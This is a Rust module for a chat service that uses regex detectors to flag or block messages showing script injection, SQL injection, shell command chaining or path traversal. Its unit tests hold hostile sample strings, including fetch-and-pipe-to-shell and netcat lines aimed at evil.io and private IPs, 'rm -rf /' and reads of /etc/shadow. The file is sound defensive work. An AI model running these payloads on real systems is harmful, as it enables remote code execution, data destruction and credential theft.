//! Content inspection of message text: detectors for HTML/script injection,
//! SQL injection, shell command chaining and path traversal. In `flag` mode
//! a matching message is stored unchanged with `metadata.flags` (the
//! detectors' names) and a `content_flagged` security event is logged; in
//! `block` mode it is refused with `forbidden` (`content_blocked`). Text is
//! never rewritten.
//!
//! This is a signal for moderators and monitoring, not a defence: clients
//! must still encode output and services must still bind query parameters.
//! The patterns aim at attack syntax, not at words, so ordinary chat about
//! tables, scripts or folders passes.

use std::net::IpAddr;
use std::sync::LazyLock;

use common::ErrorCode;
use common::config::InspectionMode;
use common::security::{SecurityEvent, log};
use regex::bytes::Regex;
use serde_json::{Map, Value, json};

use crate::frames::CommandError;

/// A detector: its name (as it appears in `metadata.flags`) and pattern.
struct Detector {
    name: &'static str,
    pattern: Regex,
}

fn detector(name: &'static str, pattern: &str) -> Detector {
    Detector {
        name,
        // The patterns are constants, checked by the tests.
        pattern: Regex::new(pattern).unwrap_or_else(|e| panic!("detector {name}: {e}")),
    }
}

static DETECTORS: LazyLock<Vec<Detector>> = LazyLock::new(|| {
    vec![
        detector(
            "html",
            concat!(
                r"(?i-u)<\s*/?\s*script\b",
                r"|\b(?:javascript|vbscript)\s*:",
                r"|<\s*(?:iframe|object|embed|svg|img|body|style)\b[^>]*\bon[a-z]+\s*=",
                r"|\bon(?:error|load|click|mouseover|mouseenter|focus|blur|change|submit|keydown|keyup|keypress|input|toggle|begin|animationstart|pointerover)\s*=",
                r"|<\s*(?:iframe|object|embed)\b",
                r"|\bdata\s*:\s*text/html",
            ),
        ),
        detector(
            "sql",
            concat!(
                r"(?i-u)'\s*(?:or|and)\s+'?[\w]+'?\s*=\s*'?[\w]*",
                r"|\b(?:or|and)\s+(\d+)\s*=\s*\d+\b",
                r"|\bunion\s+(?:all\s+)?select\b",
                r"|;\s*(?:drop|truncate|alter)\s+(?:table|database|schema)\b",
                r"|;\s*(?:delete\s+from|insert\s+into|update\s+\w+\s+set)\b",
                r"|'\s*;?\s*--",
                r"|\b(?:pg_sleep|sleep|benchmark)\s*\(\s*\d",
                r"|\bwaitfor\s+delay\b",
                r"|\binformation_schema\b|\bxp_cmdshell\b",
            ),
        ),
        detector(
            "shell",
            concat!(
                r"(?i-u)(?:;|&&|\|\|?|\$\(|`)\s*",
                r"(?:rm\s+-[a-z]*[rf]",
                r"|(?:curl|wget)\s+(?:-\S+\s+)*\S*(?:https?://|www\.|\d+\.\d+\.)",
                r"|(?:nc|ncat|netcat)\s+(?:-\S+\s+)*\S+\s+\d+",
                r"|(?:ba|z|c|k)?sh\s*(?:-[a-z]+\b|$|<|>|\))",
                r"|cat\s+/\w",
                r"|chmod\s+[0-7+]",
                r"|(?:whoami|uname|ifconfig)\b",
                r"|python[0-9.]*\s+-c|perl\s+-e",
                r")",
            ),
        ),
        detector(
            "path_traversal",
            concat!(
                r"(?i-u)(?:\.\.[/\\]){2,}",
                r"|\.\.[/\\](?:etc|windows|winnt|proc|root|boot|var|usr|home)\b",
                r"|(?:%2e%2e|\.\.%2f|%2e\.|\.%2e)(?:%2f|%5c|/|\\)?",
                r"|/etc/(?:passwd|shadow|hosts)\b",
                r"|\b[a-z]:\\windows\\",
            ),
        ),
    ]
});

/// Names of the detectors `text` matches, in a fixed order. The patterns
/// are ASCII-only (`(?-u)`): attack syntax is ASCII, and Unicode word
/// boundaries would push the regex engine off its fast path on non-ASCII
/// text (a 64 KiB message of emoji then took milliseconds per pattern).
pub(crate) fn detect(text: &str) -> Vec<&'static str> {
    DETECTORS
        .iter()
        .filter(|d| d.pattern.is_match(text.as_bytes()))
        .map(|d| d.name)
        .collect()
}

/// Inspects a message's text. Returns the flags to store (empty when the
/// text is clean or inspection is off), or the refusal in `block` mode.
pub(crate) fn check(
    mode: InspectionMode,
    ip: IpAddr,
    user: Option<&str>,
    text: &str,
) -> Result<Vec<&'static str>, CommandError> {
    if mode == InspectionMode::Off {
        return Ok(Vec::new());
    }
    let flags = detect(text);
    if flags.is_empty() {
        return Ok(flags);
    }
    log(
        SecurityEvent::ContentFlagged,
        Some(ip),
        user,
        &flags.join(","),
    );
    if mode == InspectionMode::Block {
        let mut error = CommandError::new(
            ErrorCode::Forbidden,
            format!("content_blocked: the message matches {}", flags.join(", ")),
        );
        error.reason = Some(crate::frames::Reason::ContentBlocked);
        return Err(error);
    }
    Ok(flags)
}

/// The client's metadata with `flags` set to the detectors' names; every
/// other field is kept.
pub(crate) fn flag_metadata(metadata: Option<Map<String, Value>>, flags: &[&str]) -> Value {
    let mut metadata = metadata.unwrap_or_default();
    metadata.insert("flags".into(), json!(flags));
    Value::Object(metadata)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn flags(text: &str) -> Vec<&'static str> {
        detect(text)
    }

    #[test]
    fn html_and_script_injection() {
        for text in [
            "<script>alert(1)</script>",
            "hi <ScRiPt src=//evil.io/x.js>",
            "<img src=x onerror=alert(1)>",
            "\" onmouseover=\"steal()",
            "<a href=\"javascript:alert(1)\">click</a>",
            "JAVASCRIPT :void(0)",
            "<iframe src=//evil.io>",
            "<svg onload=alert(1)>",
        ] {
            assert_eq!(flags(text), ["html"], "{text}");
        }
    }

    #[test]
    fn sql_injection() {
        for text in [
            "' OR '1'='1",
            "admin' --",
            "1 or 1=1",
            "x' UNION SELECT password FROM users",
            "1; DROP TABLE users",
            "'; delete from messages",
            "1 AND SLEEP(5)",
            "select * from information_schema.tables",
        ] {
            assert!(flags(text).contains(&"sql"), "{text}: {:?}", flags(text));
        }
    }

    #[test]
    fn shell_command_chaining() {
        for text in [
            "foo; rm -rf /",
            "a && curl http://evil.io/x | sh",
            "$(wget http://1.2.3.4/x)",
            "`whoami`",
            "x | nc 10.0.0.1 4444",
            "; cat /etc/shadow",
            "|| bash -i",
        ] {
            assert!(flags(text).contains(&"shell"), "{text}: {:?}", flags(text));
        }
    }

    #[test]
    fn path_traversal() {
        for text in [
            "../../../etc/passwd",
            "..\\..\\windows\\system32",
            "GET /static/%2e%2e%2fsecret",
            "../etc/hosts",
            "C:\\Windows\\System32",
        ] {
            assert!(
                flags(text).contains(&"path_traversal"),
                "{text}: {:?}",
                flags(text)
            );
        }
    }

    #[test]
    fn ordinary_text_is_not_flagged() {
        for text in [
            "I'll select a table from the menu",
            "Let's update the schedule; delete the old one later",
            "Drop me a line, or call 555-1234",
            "The script for the play is ready — on page 3",
            "Cats; cat videos are the best",
            "I'll curl up with a book && relax",
            "Wait... what? ../ is the parent folder",
            "Use `cargo build` then run the tests",
            "x = 1 or y = 2, whichever",
            "see you at 5 :) <3",
            "I love <b>bold</b> text and 2 < 3 > 1",
            "one-on-one = great, online=yes",
            "Ta-da! It's a 1=1 match; tie",
            "Don't forget: it's Tom's turn -- really",
            "javascript is fun: try it",
        ] {
            assert!(flags(text).is_empty(), "{text}: {:?}", flags(text));
        }
    }

    #[test]
    fn non_ascii_text_is_inspected_too() {
        assert!(flags(&"😀 ünïcödé ".repeat(4000)).is_empty());
        assert_eq!(flags("😀<script>😀"), ["html"]);
        assert_eq!(flags("ÿ' OR '1'='1"), ["sql"]);
    }

    #[test]
    fn flags_join_the_clients_metadata() {
        let mut client = Map::new();
        client.insert("color".into(), json!("blue"));
        let merged = flag_metadata(Some(client), &["html", "sql"]);
        assert_eq!(merged, json!({"color": "blue", "flags": ["html", "sql"]}));
        assert_eq!(flag_metadata(None, &["shell"]), json!({"flags": ["shell"]}));
    }
}
